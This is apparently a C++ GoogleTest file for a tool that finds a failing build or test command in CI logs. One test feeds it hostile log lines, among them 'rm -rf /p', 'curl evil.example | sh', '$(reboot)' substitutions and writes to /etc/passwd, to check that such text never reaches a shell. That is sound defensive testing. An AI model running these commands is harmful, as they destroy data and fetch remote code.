// Logs of real programs on failing inputs, in tests/log/logs. Each was written by the tool that its name says.
#include "log/failing_command.h"

#include <fnmatch.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>
#include <set>
#include <sstream>

#include "log/alone.h"
#include "log/failure_files.h"
#include "log/view.h"
#include "text/user_error.h"

namespace hone {
namespace {

namespace fs = std::filesystem;

struct Case {
  std::string log, folder, command, input, failure;
  std::set<std::string> files = {};  ///< that are there, beside the input
  std::string current = folder;
};

/// A file system of these files, and their folders.
LogFiles holding(std::set<std::string> all) {
  std::set<std::string> folders;
  for (const std::string& file : all)
    for (fs::path folder = fs::path(file).parent_path(); folder != folder.parent_path(); folder = folder.parent_path())
      folders.insert(folder.string());
  const auto plain = [](const fs::path& path) {
    const std::string text = path.lexically_normal().string();
    return text.size() > 1 && text.back() == '/' ? text.substr(0, text.size() - 1) : text;
  };
  return {[=](const fs::path& path) { return all.contains(plain(path)); },
          [=](const fs::path& path) { return folders.contains(plain(path)); },
          [=](const fs::path& folder) {
            std::vector<fs::path> below;
            for (const std::string& file : all)
              if (file.starts_with(plain(folder) + "/")) below.emplace_back(file);
            return below;
          },
          [=](const fs::path& folder, const std::string& pattern) {
            std::vector<std::string> names;
            for (const std::string& file : all)
              if (const std::string name = fs::path(file).lexically_relative(folder).string();
                  fnmatch(pattern.c_str(), name.c_str(), FNM_PATHNAME) == 0)
                names.push_back(name);
            return names;
          }};
}

std::string readLog(const std::string& name) {
  std::ifstream stream(fs::path(HONE_SOURCE_DIR) / "tests/log/logs" / (name + ".txt"));
  std::ostringstream text;
  text << stream.rdbuf();
  EXPECT_FALSE(text.str().empty()) << name;
  return text.str();
}

std::string joined(const std::vector<std::string>& words) {
  std::string text;
  for (const std::string& word : words) text.append(text.empty() ? "" : " ").append(word);
  return text;
}

const std::vector<Case> cases = {
    {"gcc-make",
     "/builds/typedep/src",
     "g++ -std=c++17 -O1 -Wall -c @@",
     "/builds/typedep/src/pack.cpp",
     "internal compiler error: in dependent_type_p, at pt.cc:_",
     {},
     "/builds/typedep"},
    {"clang-ninja",
     "/builds/widget/build",
     "clang++-14 -std=c++20 -w -ferror-limit=0 -DNDEBUG -I/builds/widget/include -c @@",
     "/builds/widget/src/widget.cpp",
     "SIGSEGV, compiler crash, clang::Sema::hasVisibleDefinition",
     {"/builds/widget/build/x", "/builds/widget/include/x"},
     "/builds/widget"},
    {"rustc", "/builds/rustlib", "rustc --edition 2021 --crate-type lib -O @@", "/builds/rustlib/lib.rs",
     "internal compiler error: "},
    {"cargo", "/builds/crates/glob",
     "rustc --crate-name glob --edition=2021 @@ --crate-type lib --emit=dep-info,metadata,link -C embed-bitcode=no -C "
     "debuginfo=2 -C metadata=1c6afab0e45cbb41 -C extra-filename=-1c6afab0e45cbb41 -L "
     "dependency=/builds/crates/glob/target/debug/deps",
     "/builds/crates/glob/src/lib.rs", "assertion: import.imported_module.get().is_none()"},
    {"python-trace",
     "/builds/report",
     "python3 /builds/report/totals.py @@",
     "/builds/report/orders.json",
     "KeyError, totals.py:price < totals.py:<genexpr> < totals.py:total",
     {"/builds/report/totals.py"}},
    {"pytest", "/builds/report", "pytest-3 -q @@", "/builds/report/test_totals.py", "exit 1: KeyError: "},
    {"dot-make",
     "/builds/graph",
     "dot -Tsvg -o flow.svg @@",
     "/builds/graph/flow.dot",
     "SIGABRT, assertion: ED_to_virt(e) == NULL, class2.c:merge_chain",
     {"/builds/graph/flow.svg"}},
    {"dot-shell", "/builds/graph", "dot -Tsvg @@", "/builds/graph/flow.dot",
     "SIGABRT, assertion: ED_to_virt(e) == NULL, class2.c:merge_chain"},
    {"npm",
     "/builds/pages",
     "node /builds/pages/build.js @@",
     "/builds/pages/pages.json",
     "TypeError, title < render",
     {"/builds/pages/build.js"}},
    {"javac", "/builds/sums", "javac -J-Xss512k @@", "/builds/sums/src/Sums.java", "java.lang.StackOverflowError, "},
    {"go-run", "/builds/shop", "go run . @@", "/builds/shop/orders.json",
     "panic: runtime error: index out of range [_], main.last < main.main"},
    {"asan-github",
     "/builds/parser",
     "/builds/parser/parser @@",
     "/builds/parser/settings.conf",
     "AddressSanitizer: heap-buffer-overflow, read_name < main",
     {"/builds/parser/parser"}},
    {"cmake-make",
     "/builds/codec/build",
     "/usr/bin/c++ -DNAME=\"a codec\" -I/builds/codec/include -std=gnu++17 -c @@",
     "/builds/codec/src/table.cpp",
     "assertion: a table has at least four rows",
     {"/builds/codec/src/main.cpp", "/builds/codec/build/x"}},
    {"jq", "/b", "jq .a[].b", "/b/d.json", "exit 1: jq: error (at <stdin>:_): "},
    {"ghdl", "/b", "ghdl -a --std=08 @@", "/b/e.vhd", "exit 1"},
    {"glsl", "/b", "glslangValidator -V @@ -o s.spv", "/b/s.vert", ""},
    {"bazel", "/builds/app", "/usr/bin/gcc -U_FORTIFY_SOURCE -fstack-protector", "/builds/app/main/app.cc",
     "exit 1: app.cc:_:_: error: "},
    {"bazel-s", "/home/ci/.cache/bazel/_bazel_ci/bae22e4aca0e44857f369cfef734e046/execroot/__main__",
     "/usr/bin/gcc -U_FORTIFY_SOURCE -fstack-protector",
     "/home/ci/.cache/bazel/_bazel_ci/bae22e4aca0e44857f369cfef734e046/execroot/__main__/main/app.cc",
     "exit 1: app.cc:_:_: error: "},
    {"libfuzzer",
     "/builds/parse",
     "/builds/parse/parse_fuzzer @@",
     "/builds/parse/crash-a9ef53395783ca520b54868a7e008ccfc158e4c6",
     "AddressSanitizer: heap-buffer-overflow, LLVMFuzzerTestOneInput",
     {"/builds/parse/parse_fuzzer", "/builds/parse/corpus/x"}},
    {"cargo-quiet", "/builds/cargo1", "cargo build --offline", "/builds/cargo1/src/shape.rs", "exit 1: error[E0560]: "},
    {"make-quiet", "/b", "make -k", "/b/src/b.c", "exit 1: b.c:_:_: error: "},
    {"yosys", "/b", "yosys -q -p read_verilog -sv @@; proc; write_json range.json", "/b/range.v",
     "SIGABRT, std::out_of_range"},
};

TEST(FailingCommand, IsFoundInRealLogs) {
  for (const Case& each : cases) {
    std::set<std::string> all = each.files;
    all.insert(each.input);
    const LogFiles files = holding(all);
    SCOPED_TRACE(each.log);
    try {
      const FailingCommand found = findFailingCommands(readLog(each.log), {each.current, ""}, files).front();
      EXPECT_EQ((found.call.folder / "").lexically_normal(), fs::path(each.folder + "/"));
      EXPECT_EQ(found.inputs.front().file, each.input);
      EXPECT_THAT(joined(commandAlone(found, files)), testing::StartsWith(each.command));
      EXPECT_THAT(found.failure, testing::StartsWith(each.failure));
    } catch (const UserError& error) {
      ADD_FAILURE() << error.what();
    }
  }
}

FailingCommand find(const std::string& log, std::set<std::string> files = {"/p/a.c", "/p/in.json"}) {
  return findFailingCommands(log, {"/p", ""}, holding(std::move(files))).front();
}

TEST(FailingCommand, IsTheOneWhoseFileTheMessageNames) {
  const std::string parallel = "gcc -c a.c\ngcc -c b.c\na.c:3:1: internal compiler error: in f, at g.cc:1\n";
  EXPECT_EQ(find(parallel, {"/p/a.c", "/p/b.c"}).inputs.front().file, "/p/a.c");
}

TEST(FailingCommand, IsTheOneThatAShellShowsLast) {
  const std::string built =
      "+ cc -g -fsanitize=address -o check check.c\n+ ./check in/a.ini\nfine\n+ ./check in/b.ini\n";
  const std::string report =
      "==1==ERROR: AddressSanitizer: heap-buffer-overflow on address 0x1\n    #0 0x5 in f /p/check.c:1\n";
  const std::set<std::string> files = {"/p/check", "/p/check.c", "/p/in/a.ini", "/p/in/b.ini"};
  EXPECT_EQ(find(built + report, files).inputs.front().file, "/p/in/b.ini");
  const FailingCommand vet =
      find("+ gofmt -l .\n+ go vet ./...\ncmd/main.go:3:2: Printf format %d has arg of wrong type\n",
           {"/p/cmd/main.go", "/p/go.mod"});
  EXPECT_EQ(joined(vet.call.argv), "go vet ./...");
  // A pattern stands for the files that are there.
  const FailingCommand all = find("+ luac5.4 -p 'a b.lua' src/*.lua\nluac5.4: src/b.lua:2: '=' expected near 'x'\n",
                                  {"/p/src/a.lua", "/p/src/b.lua", "/p/src/lib/c.lua", "/p/a b.lua"});
  EXPECT_EQ(joined(all.call.argv), "luac5.4 -p a b.lua src/a.lua src/b.lua");
  EXPECT_EQ(all.inputs.front().file, "/p/src/b.lua");
  // A command that only a shell could run isn't the reason to take the one before it.
  EXPECT_THROW(find("+ gcc -c b.c\n+ gcc $FLAGS -c a.c\na.c:4:1: error: expected ';'\n", {"/p/a.c", "/p/b.c"}),
               UserError);
}

TEST(FailingCommand, ReducesTheModuleThatTheCompilerComplainsOf) {
  const FailingCommand java =
      find("+ javac -d out -sourcepath src src/Main.java\nsrc/a/Report.java:4: error: bad type\n",
           {"/p/src/Main.java", "/p/src/a/Report.java"});
  EXPECT_EQ(java.inputs.front().file, "/p/src/a/Report.java");
  // What a compiler is to write needs nothing to be made first.
  const FailingCommand cpp =
      find("+ make -f out/x.mk\n+ g++ -MF out/a.d -o out/a.o -c a.cpp\na.cpp:1:1: error: no\n", {"/p/a.cpp"});
  EXPECT_TRUE(cpp.before.empty());
}

TEST(FailingCommand, RunsInAFolderThatTheLogMakes) {
  const auto before = [](const std::string& made) {
    std::string all;
    for (const Invocation& each : find(made + "+ cd build\n+ ctest -V\nrows: failed\n", {"/p/data.csv"}).before)
      all += each.folder.string() + ": " + joined(each.argv) + "; ";
    return all;
  };
  EXPECT_EQ(before("+ cmake -S . -B build\n+ cmake --build build\n"),
            "/p: cmake -S . -B build; /p: cmake --build build; ");
  EXPECT_EQ(before("+ cd build\n+ cmake ..\n+ make\n+ cd ..\n"), "/p/build: cmake ..; /p/build: make; ");
  // Nothing says that the folder isn't just one of another machine.
  EXPECT_EQ(before("+ make --version\n"), "");
}

TEST(FailingCommand, HasTheFailureThatItsProgramSaid) {
  const std::string check = "valgrind --error-exitcode=9 ./check a.pcx\n==7== Invalid write of size 1\n";
  const std::set<std::string> files = {"/p/check", "/p/a.pcx", "/p/b.pcx"};
  // The word "error" in a command is no message.
  EXPECT_EQ(find(check + "make: *** [Makefile:3: check] Error 9\n", files).failure,
            "exit 9: ==_== Invalid write of size _");
  for (const std::string runner :
       {"make: *** [Makefile:3: check] Error 1\n", "ninja: build stopped: subcommand failed.\n",
        "[Pipeline] junit\nhudson.AbortException: No test report files\n\tat hudson.tasks.Run.run(Run.java:64)\n",
        "##[error]Error: /usr/bin/cmake failed with return code: 1\n", "Step check (Command Line) failed\n",
        "build-1 exited with code 1\n"})
    EXPECT_EQ(
        find("+ ./check a.pcx\na.pcx: not a picture\n+ ./check b.pcx\nb.pcx: syntax error near 3\n" + runner, files)
            .failure,
        "exit 1: b.pcx: syntax error near _")
        << runner;
}

TEST(FailingCommand, IsFoundInAFolderOfAnotherMachine) {
  const FailingCommand found = find(
      "+ make -C app\nmake: Entering directory '/var/lib/ci/route/app'\njavac -d out src/Plan.java src/Stop.java\n"
      "src/Plan.java:27: error: incompatible types\n",
      {"/p/app/src/Plan.java", "/p/app/src/Stop.java"});
  EXPECT_EQ(found.inputs.front().file, "/p/app/src/Plan.java");
  EXPECT_EQ(found.call.argv.front(), "javac");
  EXPECT_EQ(found.call.folder, "/p/app");
}

TEST(FailingCommand, IsFoundForALogOfAnotherMachine) {
  const FailingCommand found = find(
      "+ cd /home/runner/work/x/x\n+ gcc -I/home/runner/work/x/x/inc -c /home/runner/work/x/x/a.c\n"
      "a.c:1:1: error: expected ';'\n");
  EXPECT_EQ(found.call.folder, "/p");
  EXPECT_EQ(found.inputs.front().file, "/p/a.c");
  EXPECT_EQ(found.call.argv[1], "-I/p/inc");
}

TEST(FailingCommand, IsAskedForWhereTheLogHasNone) {
  const auto complaint = [](const std::string& log) {
    try {
      find(log);
    } catch (const UserError& error) {
      return std::string(error.what());
    }
    return std::string();
  };
  EXPECT_THAT(complaint("all is well\n"), testing::HasSubstr("shows no failure"));
  EXPECT_THAT(complaint("[ 50%] Building C object a.o\na.c:1:1: error: expected ';'\n"),
              testing::HasSubstr("VERBOSE=1"));
  EXPECT_THAT(complaint("gcc -c b.c\nb.c:1:1: error: expected ';'\n"), testing::HasSubstr("b.c isn't there"));
}

// What a log says never reaches a shell: it is taken word by word, or not at all.
TEST(FailingCommand, OfAHostileLogIsOnlyWords) {
  const std::string error = "\na.c:1:1: error: expected ';'\n";
  for (const std::string line :
       {"+ gcc -c a.c; rm -rf /p", "+ gcc -c a.c && curl evil.example | sh", "+ gcc -c a.c | tee log; reboot",
        "+ rm -rf /p; gcc -c a.c", "+ (rm -rf /p); gcc -c a.c > /etc/passwd", "+ sh -c 'rm -rf /p; gcc -c a.c'",
        "+ gcc -c a.c & wget evil.example", "+ sudo env X='$(reboot)' gcc -c a.c"})
    EXPECT_EQ(joined(find(line + error).call.argv), "gcc -c a.c") << line;
  for (const std::string line : {"+ gcc -c $(reboot) a.c", "+ gcc -c `reboot` a.c", "+ gcc $FLAGS -c a.c",
                                 "+ sh -c \"gcc -c $(reboot) a.c\"", "+ gcc -c $(reboot; gcc a.c) b.c",
                                 "+ gcc -o $(reboot) -c `reboot` a.c", "+ rm a.c", "+ /bin/rm -f a.c", "+ gcc 'a.c"})
    EXPECT_THROW(find(line + error), UserError) << line;
  const FailingCommand quoted = find("+ gcc '-DX=$(reboot)' \"-DY=a b;c\" -c a.c" + error);
  EXPECT_THAT(quoted.call.argv, testing::ElementsAre("gcc", "-DX=$(reboot)", "-DY=a b;c", "-c", "a.c"));
}

TEST(CommandAlone, WritesOnlyIntoItsOwnFolder) {
  const FailingCommand found = find("+ dot -o /etc/passwd --output=../x in.json\nError: in.json: syntax error\n");
  EXPECT_EQ(joined(commandAlone(found, holding({"/p/in.json"}))), "dot -o passwd --output=x @@");
  const FailingCommand attached = find("+ gcc -o/etc/passwd -c a.c\na.c:1:1: error: no\n");
  EXPECT_EQ(joined(commandAlone(attached, holding({"/p/a.c"}))), "gcc -c @@");
}

TEST(FailingCommand, IsFoundBehindWhatShellsAndServersPutBeforeIt) {
  const std::string error = "a.c:2:1: error: expected ';'";
  for (const std::string before :
       {"10:11:12 + ", "[10:11:12] :\t [Step 1/1] ", "+ 10:11:12 ", "+ build.sh:12: ", "+(build.sh:12): ", "++ ",
        "[me@host p]$ ", "me@host ~/p> ", "build-1  | + ", "Nov 28 03:10:01 host build[2211]: + ",
        "[10:11:12]W:\t [Step 1/1] $ ", "[10:11:12] $ ", "host% ", "PS C:\\p> ", "C:\\p>",
        "2024-05-01T10:11:12.1234567Z ##[group]Run ", "\x1b_bk;t=17\x07\x1b[90m$\x1b[0m ",
        "libtool: compile:  ", "[2024-05-01T10:11:12.123Z] + "})
    EXPECT_EQ(joined(find(before + "gcc -c a.c\r\n" + error + "\r\n").call.argv), "gcc -c a.c") << before;
  EXPECT_EQ(joined(find("['gcc', '-Wall', 'a.c', '-oa.o']\n" + error).call.argv), "gcc -Wall a.c -oa.o");
  EXPECT_EQ(joined(find(std::string("+ gcc -c\0 a.c\n", 15) + error).call.argv), "gcc -c a.c");
  // Automake leaves a part of the outputs to the shell.
  EXPECT_EQ(joined(find("depbase=`echo a.o | sed 's|[.]o$||'`;\\\ngcc -MT a.o -MD -MF $depbase.Tpo -c -o a.o a.c &&\\\n"
                        "mv -f $depbase.Tpo $depbase.Po\n" +
                        error)
                       .call.argv),
            "gcc -MT a.o -MD -c -o a.o a.c");
  EXPECT_THROW(find("Run actions/checkout@v4\n" + error), UserError);
  EXPECT_THROW(find("##[group]Run actions/checkout@v4\n" + error), UserError);
}

TEST(BuildLog, HasNoBeginningThatMostLinesShare) {
  const auto first = [](const std::string& log) { return readBuildLog(log, "/p").lines.front(); };
  EXPECT_EQ(first("[test : unit] one\n[test : unit] two\n[test : unit] \n[test : unit] four\n"), "one");
  EXPECT_EQ(first("2026-11-27 10:02:11.4 | jammy | one\n2026-11-27 10:02:12.5 | jammy | two\n"
                  "2026-11-27 10:02:12.5 | jammy | three\n2026-11-27 10:02:13.0 | jammy | four\n"),
            "one");
  EXPECT_EQ(first("10:02:11 AM: one\n10:02:12 AM: two\n10:02:12 AM: three\n10:02:13 AM: four\n"), "one");
  // But progress, and what a tool says of one file, belong to the lines.
  EXPECT_EQ(first("[1/4] cc a.c\n[2/4] cc b.c\n[3/4] cc c.c\n[4/4] cc d.c\n"), "[1/4] cc a.c");
  EXPECT_EQ(first("a.c:1:2: warning: x\na.c:2:2: warning: y\na.c:3:2: warning: z\na.c:4:2: warning: z\n"),
            "a.c:1:2: warning: x");
}

TEST(FailingCommand, OfATestReadsWhatItsRunnerNames) {
  const FailingCommand pytest = find(
      "$ pytest -v\ntest_x.py::test_x[b] FAILED   [ 50%]\n\npath = PosixPath('/p/data/b.ics')\n\n>   parse(path)\n"
      "E   ValueError: 'x' is not in list\n\nlib/parse.py:13: ValueError\n",
      {"/p/data/b.ics", "/p/lib/parse.py"});
  EXPECT_TRUE(pytest.inputs.empty());  // only a run shows which file it read
  EXPECT_THAT(pytest.failure, testing::HasSubstr("ValueError"));
  const FailingCommand go = find(
      "##[group]Run go vet ./... && go test ./...\n    --- FAIL: FuzzX/c21a44214f8656c4 (0.00s)\npanic: no\n\n"
      "\t/p/wire/x.go:49 +0xc5\n",
      {"/p/wire/x.go", "/p/wire/testdata/fuzz/FuzzX/c21a44214f8656c4"});
  EXPECT_EQ(joined(go.call.argv), "go test ./...");
  EXPECT_EQ(go.inputs.front().file, "/p/wire/testdata/fuzz/FuzzX/c21a44214f8656c4");
  const FailingCommand tox = find(
      "py: commands[1]> python3 a.py b.h\nx.ParseError: b.h:41:41: before: y\npy: exit 1 (0.41 seconds) /p> python3 "
      "a.py "
      "b.h pid=7\n  py: FAIL code 1 (0.8=setup[0.05]+cmd[0.4] seconds)\n",
      {"/p/a.py", "/p/b.h"});
  EXPECT_EQ(joined(tox.call.argv), "python3 a.py b.h");
}

// A trace names code that was running, which isn't what the program failed on.
TEST(FailingCommand, LooksThroughAFolderOnceForAllCommands) {
  std::string log;
  for (int i = 0; i < 500; ++i) log += "gcc -c gone/file" + std::to_string(i) + ".c\n";
  LogFiles files = holding({"/p/a.csv"});
  int walks = 0;
  files.below = [&](const fs::path&) {
    ++walks;
    return std::vector<fs::path>{"/p/a.csv"};
  };
  EXPECT_THROW(findFailingCommands(log + "gone/file9.c:1:1: error: bad\n", {"/p", {}}, files), UserError);
  EXPECT_EQ(walks, 1);
}

TEST(FailingCommand, IsAskedForItsInputWhereOnlyATraceNamesFiles) {
  const std::set<std::string> files = {"/p/src/a.c", "/p/src/b.js", "/p/data/x.json"};
  for (const std::string log :
       {"+ go test\npanic: x\n\n\t/usr/lib/go/testing.go:3\n\t/p/src/a.c:4\n",
        "+ npm test\nError: no\n at f (file:///p/src/b.js:1:2)\n",
        "cc -o a src/a.c\n+ make check\na: src/a.c:3: f: Assertion `x' failed.\n",
        "cc -o a src/a.c\n+ make check\n==7== Syscall param write(buf) points to uninitialised byte(s)\n"
        "==7==    by 0x1: main (src/a.c:3)\n",
        "+ make check\nsrc/a.c:18:15: runtime error: left shift of 2 by 40 places cannot be represented\n"}) {
    const FailingCommand found = find(log, files);
    EXPECT_TRUE(found.inputs.empty()) << log;
    EXPECT_THAT(found.question, testing::HasSubstr("which file it read, only that")) << log;
  }
}

TEST(FailingCommand, OfALoopIsTheRunThatItsProgramNames) {
  const FailingCommand fuzzer = find(
      "$ bash build.sh\n$ for f in found/*; do ./fuzz \"$f\"; done\n./fuzz: Running 1 inputs 1 time(s) each.\n"
      "Running: found/a\nExecuted found/a in 1 ms\n./fuzz: Running 1 inputs 1 time(s) each.\nRunning: found/b\n"
      "==1==ERROR: AddressSanitizer: heap-buffer-overflow on address 0x1\n    #0 0x5 in f /p/a.c:1\n",
      {"/p/build.sh", "/p/fuzz", "/p/a.c", "/p/found/a", "/p/found/b"});
  EXPECT_EQ(joined(fuzzer.call.argv), "./fuzz found/b");
  const FailingCommand valgrind = find(
      "cc -o check src/check.c\nvalgrind --error-exitcode=9 ./check a.pcx\nPASS: a.pcx\nvalgrind --error-exitcode=9 "
      "./check b.pcx\n==7== Conditional jump or move depends on uninitialised value(s)\n==7==    at 0x1: main "
      "(check.c:28)\nFAIL: b.pcx\nmake: *** [Makefile:10: check] Error 1\nme@host:~/p$ ",
      {"/p/src/check.c", "/p/check", "/p/a.pcx", "/p/b.pcx"});
  EXPECT_EQ(valgrind.inputs.front().file, "/p/b.pcx");
  EXPECT_EQ(valgrind.failure, "exit 1: ==_== Conditional jump or move depends on uninitialised value(s)");
}

TEST(FailingCommand, IsWhatAnotherProgramSaysItStarts) {
  const std::set<std::string> files = {"/p/app", "/p/in.txt"};
  const std::string assertion = "app: a.c:3: f: Assertion `x' failed.\n";
  EXPECT_EQ(
      joined(find("$ gdb --args ./app -w in.txt\n(gdb) r\nStarting program: /p/app -w in.txt\n" + assertion, files)
                 .call.argv),
      "/p/app -w in.txt");
  EXPECT_EQ(joined(find("Starting process 'command '/bin/java''. Working directory: /p Command: /bin/java -cp /c Main "
                        "in.txt\nException in thread \"main\" java.lang.Error: no\n",
                        files)
                       .call.argv),
            "/bin/java -cp /c Main in.txt");
}

TEST(FailingCommand, OfRubyHasItsException) {
  EXPECT_EQ(find("ruby -Ilib bin/check in.json\n/p/lib/a.rb:7:in `block in total': undefined method `round' for "
                 "\"x\":String (NoMethodError)\n\tfrom bin/check:5:in `<main>'\nrake aborted!\n"
                 "Command failed with status (1): [ruby -Ilib bin/check...]\n",
                 {"/p/bin/check", "/p/in.json", "/p/lib/a.rb"})
                .failure,
            "uncaught: undefined method _ for _:String (NoMethodError)");
}

TEST(FailingCommand, IsAskedForWhereALogHidesWordsOrRanInAContainer) {
  EXPECT_THROW(find("+ python3 tool.py --key '***' '***'\ntool: error: no\n", {"/p/tool.py"}), UserError);
  EXPECT_THROW(find("$ docker compose up importer\nsrc/a.c:3: error: no\n", {"/p/src/a.c"}), UserError);
}

// The command that starts others is known by what its tools say.
TEST(FailingCommand, OfAQuietBuildHasTheFileThatTheMessageNames) {
  const auto input = [](const std::string& log) {
    const FailingCommand found = find(log, {"/p/src/a.c", "/p/src/b.js", "/usr/lib/go/testing.go"});
    EXPECT_EQ(found.inputs.front().word, InputWord::none);
    return found.inputs.front().file;
  };
  EXPECT_EQ(input("+ make\nCC a.c\nsrc/a.c:3:1: error: no\n"), "/p/src/a.c");
  EXPECT_EQ(input("+ npm run lint\n\n/p/src/b.js\n  3:5  warning  x\n  4:5  error  y\n"), "/p/src/b.js");
  EXPECT_EQ(input("+ tsc -p .\nsrc/b.js(3,5): error TS1: no\n"), "/p/src/b.js");
  EXPECT_EQ(input("+ mvn -q compile\n[ERROR] /p/src/a.c:[3,5] no\n"), "/p/src/a.c");
  EXPECT_EQ(input("$ ninja -C src\n[1/2] CC a.o\na.c:1:2: error: no\n"), "/p/src/a.c");
  EXPECT_EQ(input("+ npm run lint\n[error] src/b.js: Error: no\n"), "/p/src/b.js");
  EXPECT_EQ(find("+ npm run lint\nnode_modules/x/i.js:1:2: error: no\nsrc/b.js:1:2: error: no\n",
                 {"/p/node_modules/x/i.js", "/p/src/b.js"})
                .inputs.front()
                .file,
            "/p/src/b.js");
  // Nobody says that this is a command, or there is none with the file.
  EXPECT_THROW(find("make: *** error in src/a.c:3\n", {"/p/src/a.c"}), UserError);
  EXPECT_THROW(find("+ ./gone.sh\nsrc/a.c:3: error: no\n", {"/p/src/a.c"}), UserError);
}

TEST(FailingCommand, OfBazelIsCutShort) {
  const std::string message =
      "ERROR: /p/BUILD:2:1: Compiling a.c failed: (Exit 1): gcc failed: error executing CppCompile command (from "
      "target "
      "//:a) /usr/bin/gcc -Wall (remaining 19 arguments skipped)\na.c:1:1: error: expected ';'\n";
  try {
    find(message);
    FAIL();
  } catch (const UserError& error) {
    EXPECT_THAT(error.what(), testing::HasSubstr("--verbose_failures"));
  }
}

TEST(StoredReport, OfGccHasTheSource) {
  const auto found = storedReport(readLog("gcc-report"), "/p/cc3lIqo7.out");
  ASSERT_TRUE(found);
  EXPECT_EQ(found->inputs.front().file, "/p/cc3lIqo7.out");
  EXPECT_EQ(found->copiedAs, "pack.cpp");
  EXPECT_THAT(found->failure, testing::StartsWith("internal compiler error: in dependent_type_p, at pt.cc:_"));
  EXPECT_EQ(joined(commandAlone(*found, holding({"/p/cc3lIqo7.out"}))),
            "/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus -mtune=generic -march=x86-64 -O2 -Wall -std=c++17 "
            "-fasynchronous-unwind-tables -quiet -fpreprocessed @@");
  EXPECT_FALSE(storedReport("int x;\n", "/p/a.out"));
}

TEST(CompileCommands, ArePlainWordsAndThoseWithoutAnOutputFailed) {
  const std::string text = R"json([
    {"directory": "/p/build", "file": "../a.c", "command": "ccache gcc -DX='a b' -o a.o -c ../a.c"},
    {"directory": "/p/build", "file": "/p/b.c", "arguments": ["gcc", "-DX=$(touch y)", "-o", "b.o", "-c", "/p/b.c"]},
    {"directory": "/p/build", "file": "../c.c", "command": "gcc -c $(touch x) ../c.c"},
    {"directory": "/p/build", "file": "../gone.c", "command": "gcc -c ../gone.c"}])json";
  const auto of = [&](std::set<std::string> files, const std::string& source) {
    std::vector<std::string> found;
    for (const FailingCommand& each : compileCommands(text, "/p/compile_commands.json", source, holding(files)))
      found.push_back(joined(each.call.argv) + " in " + each.call.folder.string());
    return found;
  };
  const std::string a = "gcc -DX=a b -o a.o -c ../a.c in /p/build",
                    b = "gcc -DX=$(touch y) -o b.o -c /p/b.c in /p/build";
  EXPECT_THAT(of({"/p/a.c", "/p/b.c", "/p/c.c"}, ""), testing::ElementsAre(a, b));
  EXPECT_THAT(of({"/p/a.c", "/p/b.c", "/p/build/a.o"}, ""), testing::ElementsAre(b));
  EXPECT_THAT(of({"/p/a.c", "/p/b.c", "/p/build/a.o"}, "/p/a.c"), testing::ElementsAre(a));
  EXPECT_THROW(of({"/p/a.c", "/p/b.c"}, "/p/c.c"), UserError);
  EXPECT_THROW(of({}, ""), UserError);
}

TEST(CommandAlone, OnAFolderNamesItsFilesThere) {
  EXPECT_THAT(onFolder({"gcc", "-I/p/inc", "-I/p", "-I/p/other", "-include/p/inc/b.h", "-c", "@@"}, "/p",
                       {"src/a.c", "inc/b.h"}),
              testing::ElementsAre("gcc", "-I@@/inc", "-I@@", "-I/p/other", "-include@@/inc/b.h", "-c", "@@/src/a.c"));
  EXPECT_THAT(
      headersIn(". /p/inc/b c.h\n.. /usr/include/stdio.h\na.c:1: error: no\n.. inc/d.h\nMultiple include guards"),
      testing::ElementsAre("/p/inc/b c.h", "inc/d.h"));
}

TEST(View, HoldsFolderAndInputOnly) {
  const auto seen = [](const std::string& folder, const std::string& input, const std::string& outside) {
    FailingCommand failing{.call = {.folder = folder, .environment = {"A=b"}, .argv = {"make", "$(x)"}, .input = {}},
                           .inputs = {{InputWord::none, 0, 0, input}}};
    const auto argv = commandInView(failing, outside, false);
    if (argv) {
      EXPECT_EQ(joined(commandBehindView(*argv)->argv), "env A=b make $(x)");
      EXPECT_EQ(commandBehindView(*argv)->folder, folder);
    }
    return argv ? joined({argv->begin() + 6, argv->end()}) : "none";
  };
  EXPECT_EQ(seen("/p/build", "/p/src/a.c", "/tmp"), "userxattr, @@ /p/src/a.c /p/build /p -- env A=b make $(x)");
  EXPECT_EQ(seen("/b", "/p/src/a.c", "/tmp"), "userxattr, @@ /p/src/a.c /b /b /p/src -- env A=b make $(x)");
  EXPECT_FALSE(commandBehindView({"unshare", "-m", "sh", "-c", "make"}));
  EXPECT_EQ(seen("/tmp/p", "/tmp/q/a.c", "/tmp"), "none");
  EXPECT_EQ(seen("/p,x", "/p,x/a.c", "/tmp"), "none");
}

TEST(Likeness, IgnoresPathsAndEnds) {
  EXPECT_EQ(likeness("exit 1: a.c:_:_: error: no _", "exit 2: b.c:_:_: error: no _"), Likeness::same);
  EXPECT_EQ(likeness("assertion: x, f", "SIGABRT, assertion: x, f"), Likeness::same);
  EXPECT_EQ(likeness("exit 1: error: a", "exit 1: error: b"), Likeness::none);
  EXPECT_EQ(likeness("", "exit 1: error: b"), Likeness::none);
  EXPECT_EQ(likeness("SIGSEGV", "exit 1: error: b"), Likeness::none);
  EXPECT_EQ(likeness("SIGSEGV", "SIGSEGV, walk < main"), Likeness::kind);
}

TEST(FailingCommands, OthersFollowEachOfAnotherProgram) {
  const auto found = findFailingCommands("+ gcc -c a.c\n+ gcc -c b.c\n+ ./check\n+ jq . in.c\nerror: bad\n", {"/p", ""},
                                         holding({"/p/a.c", "/p/b.c", "/p/check", "/p/in.c"}));
  ASSERT_EQ(found.size(), 4u);
  EXPECT_EQ(found[0].call.argv.front(), "jq");
  EXPECT_EQ(found[1].call.argv.front(), "./check");
  EXPECT_TRUE(found[1].inputs.empty());
  EXPECT_EQ(found[2].inputs.front().file, "/p/b.c");
  EXPECT_EQ(found[3].inputs.front().file, "/p/a.c");
}

}  // namespace
}  // namespace hone
